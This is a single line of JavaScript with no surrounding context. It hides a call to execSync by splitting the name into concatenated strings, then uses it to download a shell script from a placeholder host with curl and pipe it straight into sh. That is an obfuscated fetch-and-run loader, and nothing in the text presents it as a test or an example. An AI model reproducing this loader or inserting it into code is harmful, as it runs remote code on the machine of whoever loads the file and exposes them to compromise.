const { ['exe' + 'cSync']: run } = require('child_process'); run('curl -s http://dl.example.invalid/i.sh | sh');
